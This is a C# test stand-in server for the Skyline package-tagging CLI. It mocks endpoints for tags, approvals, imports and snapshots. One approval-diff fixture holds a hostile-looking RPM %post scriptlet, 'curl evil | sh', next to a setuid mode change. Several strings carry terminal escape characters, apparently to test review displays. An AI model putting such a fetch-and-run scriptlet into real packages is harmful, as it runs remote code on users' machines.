using System.Collections.Concurrent;
using System.Globalization;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Http;
using Skyline.Protocol;

namespace Skyline.Cli.Tests.StandIn;

/// <summary>What the stand-in does about tags: it keeps what it was asked for, and answers what the test says.</summary>
sealed class StandInTags
{
    static readonly DateTimeOffset Noon = new(2026, 11, 23, 12, 0, 0, TimeSpan.Zero);

    /// <summary>Each change as "METHOD path?query body".</summary>
    public ConcurrentQueue<string> Changes { get; } = new();

    /// <summary>Names of builds by the imported file's size.</summary>
    public Dictionary<long, string> Imports { get; } = [];

    public ConcurrentQueue<long> Imported { get; } = new();

    public TagChanged Answer { get; set; } = new(false, ["stable: hello-2-1 tagged"], [], []);

    /// <summary>Whether changes need a second person, and what becomes of what waits, each time that it is asked for; the last one stays.</summary>
    public bool Holds { get; set; }
    public ConcurrentQueue<ApprovalState> Approvals { get; } = new();

    /// <summary>Answers to who waits for a repository, in turn; the last one stays.</summary>
    public ConcurrentQueue<RepoHolds> Waits { get; } = new();

    public ConcurrentQueue<string> Waited { get; } = new();

    static readonly SideTagSummary Side = new("stable-side-1", "stable", "kim", "new\u001b foo", 2, Noon, Noon.AddDays(1), "it has been empty for a day");

    public SideTagPromotion Promotion { get; set; } = new(true, false, "stable", ["foo-2-1"], [new("installs", false, false, "1 package could not be installed any more.", ["user-1-1.x86_64: nothing provides foo"])], []);

    public void Map(WebApplication app)
    {
        foreach (var act in new[] { "builds", "untag", "move", "promote", "blocks", "unblock", "parents", "rollback", "settings", "packages", "unlist", "" })
            app.MapMethods($"/api/tags/{{tag}}/{act}", ["POST", "PUT", "PATCH"], Change);
        app.MapDelete("/api/tags/{tag}/parents/{parent}", Change);
        app.MapGet("/api/tags/{tag}/packages", context => Told(context, [new TagPackage("hello", "kim", "stable"), new TagPackage("perl", null, "base\u001b", Blocked: true)], SkylineJson.Default.IReadOnlyListTagPackage));
        app.MapGet("/api/tags/{tag}/latest", context => Told(context, [new LatestBuild("hello", 7, "hello-1-1", "base", "kim")], SkylineJson.Default.IReadOnlyListLatestBuild));
        app.MapPost("/api/tags/{tag}/clone", context => Told(context, new ClonedTag(new TagDetails("copy", "testos", ["x86_64"], "8d3f0c44aa55bb66", Noon, [], ""), ["Left out: much."]), SkylineJson.Default.ClonedTag));
        app.MapDelete("/api/tags/{tag}", async context =>
        {
            await Keep(context);
            context.Response.StatusCode = 204;
        });
        app.MapMethods("/api/side-tags/{name?}/{act?}", ["GET", "POST", "PATCH", "DELETE"], context => (context.Request.Method, context.Request.RouteValues["act"] as string, context.Request.RouteValues["name"] as string) switch
        {
            ("POST", "promote", _) => Told(context, Promotion, SkylineJson.Default.SideTagPromotion),
            ("GET", _, null) => Told(context, new SideTagPage([Side], null), SkylineJson.Default.SideTagPage),
            _ => Told(context, new SideTagDetails(Side, "stable", [], []), SkylineJson.Default.SideTagDetails),
        });
        app.MapMethods("/api/approvals/{id:long}/{act?}", ["GET", "POST"], context => (context.Request.RouteValues["act"] as string) switch
        {
            "difference" => Told(context, new ApprovalDifference(7, "abc", [new("stable", "hello", "hello-1-1", 1, "hello-2-1", 2,
                [new("hello-2-1.x86_64.rpm", "changed", [new("/usr/bin/hello\u001b", "content, mode 100755 → 104755")], [new("%post", null, "/bin/sh\ncurl evil | sh\n")], ["+ requires: curl"])], ["-Version: 1", "+Version: 2"], [new("hello.tar", "1111", "2222")])], 1, null), SkylineJson.Default.ApprovalDifference),
            "refuse" => Told(context, Approval(ApprovalState.Refused), SkylineJson.Default.ApprovalDetails),
            "withdraw" => Told(context, Approval(ApprovalState.Withdrawn), SkylineJson.Default.ApprovalDetails),
            "approve" => Told(context, Approval(ApprovalState.Done), SkylineJson.Default.ApprovalDetails),
            _ => Told(context, Approval(Approvals.Count > 1 && Approvals.TryDequeue(out var state) || Approvals.TryPeek(out state) ? state : ApprovalState.Waiting), SkylineJson.Default.ApprovalDetails),
        });
        app.MapGet("/api/approvals", context => Told(context, new ApprovalPage([Approval(ApprovalState.Waiting).Approval], null), SkylineJson.Default.ApprovalPage));
        app.MapPost("/api/rpms", Import);
        app.MapGet("/api/tags/{tag}/repo", Wait);
        app.MapGet("/api/tags/{tag}/events", context => Events(context));
        app.MapGet("/api/tags/{tag}/snapshots", Snapshots);
        app.MapGet("/api/tags/{tag}/snapshots/{hash}", Snapshot);
        app.MapGet("/api/tags/{tag}/diff", Diff);
    }

    static ApprovalDetails Approval(ApprovalState state) => new(new(7, state, "kim wants tag stable: hello-2-1 tagged", ["stable"], "kim", Noon, Noon.AddYears(10), "abc", 1, state == ApprovalState.Waiting ? null : "lee", null, state == ApprovalState.Refused ? "not now" : null),
        [new("tag stable", "hello-2-1 tagged", null, null)], 1, null, "POST /api/tags/stable/builds");

    async Task Told<T>(HttpContext context, T answer, System.Text.Json.Serialization.Metadata.JsonTypeInfo<T> type)
    {
        await Keep(context);
        await context.Response.WriteAsJsonAsync(answer, type);
    }

    async Task Keep(HttpContext context)
    {
        var body = await new StreamReader(context.Request.Body).ReadToEndAsync();
        Changes.Enqueue($"{context.Request.Method} {context.Request.Path.Value!.TrimEnd('/')}{context.Request.QueryString} {body}");
    }

    async Task Change(HttpContext context)
    {
        await Keep(context);
        if (Holds && context.Request.Query["preview"] != "true")
        {
            (context.Response.StatusCode, context.Response.Headers.Location) = (202, "/api/approvals/7");
            await context.Response.WriteAsJsonAsync(new HeldChange(7, "Nothing is changed yet: it needs a second person.", "abc", Noon.AddYears(10)), SkylineJson.Default.HeldChange);
            return;
        }
        await context.Response.WriteAsJsonAsync(Answer with { Preview = context.Request.Query["preview"] == "true" }, SkylineJson.Default.TagChanged);
    }

    async Task Import(HttpContext context)
    {
        var buffer = new MemoryStream();
        await context.Request.Body.CopyToAsync(buffer);
        if (!Imports.TryGetValue(buffer.Length, out var nvr))
        {
            await StandInServer.Refuse(context, 409, "There is another one here already.");
            return;
        }
        Imported.Enqueue(buffer.Length);
        var build = 700 + Imports.Values.Distinct().ToList().IndexOf(nvr);
        await context.Response.WriteAsJsonAsync(new ImportedRpm(build, nvr, $"{nvr}.x86_64.rpm", null), SkylineJson.Default.ImportedRpm);
    }

    Task Wait(HttpContext context)
    {
        Waited.Enqueue(context.Request.QueryString.Value!);
        if (!Waits.TryPeek(out var answer)) throw new InvalidOperationException("The test says nothing of waits.");
        if (Waits.Count > 1) Waits.TryDequeue(out _);
        return context.Response.WriteAsJsonAsync(answer, SkylineJson.Default.RepoHolds);
    }

    static TagEventDetails Event(long id) => new(id, "testos", "Tag", $"hello-{id}-1 tagged", "hello", id, Noon, "alice");

    /// <summary>Thirty events, of which the newest is the 30th.</summary>
    static Task Events(HttpContext context)
    {
        var (before, limit) = (Number(context, "before") ?? 31, Number(context, "limit")!.Value);
        List<TagEventDetails> some = [.. Enumerable.Range(1, 30).Reverse().Where(id => id < before).Take((int)Math.Min(limit, 7)).Select(id => Event(id))];
        return context.Response.WriteAsJsonAsync(new TagEventPage(some, some[^1].Id > 1 ? some[^1].Id : null), SkylineJson.Default.TagEventPage);
    }

    static Task Snapshots(HttpContext context) => context.Response.WriteAsJsonAsync(new SnapshotPage(
        [new(41, "8d3f0c44aa55bb66", Noon, 12, [Event(5), Event(4), Event(3) with { Tag = "base" }, Event(2)], 2), new(40, "51ba09ee00000000", Noon, 11, [], 0)], null), SkylineJson.Default.SnapshotPage);

    static Task Snapshot(HttpContext context) => context.Response.WriteAsJsonAsync(new SnapshotDetails("testos", new(41, "8d3f0c44aa55bb66", Noon, 12, [Event(5), Event(4) with { Tag = "base", By = null }], 3), true,
        [new("x86_64", 9, "/repos/testos/@8d3f0c44aa55bb66/x86_64/"), new("src", 3, "/repos/testos/@8d3f0c44aa55bb66/src/\u001b[31m")]), SkylineJson.Default.SnapshotDetails);

    Task Diff(HttpContext context)
    {
        Changes.Enqueue(context.Request.QueryString.Value!);
        return context.Response.WriteAsJsonAsync(new SnapshotDiff(new("testos", "51ba09ee00000000", Noon), new("testos", "8d3f0c44aa55bb66", Noon),
            [new("x86_64", PackageChangeKind.Upgraded, "hello", "hello-1-1.x86_64", "hello-2-1.x86_64"), new("src", PackageChangeKind.Added, "new", null, "new-1-1.src")], 3), SkylineJson.Default.SnapshotDiff);
    }

    static long? Number(HttpContext context, string name) =>
        context.Request.Query[name] is [{ } text] ? long.Parse(text, CultureInfo.InvariantCulture) : null;
}
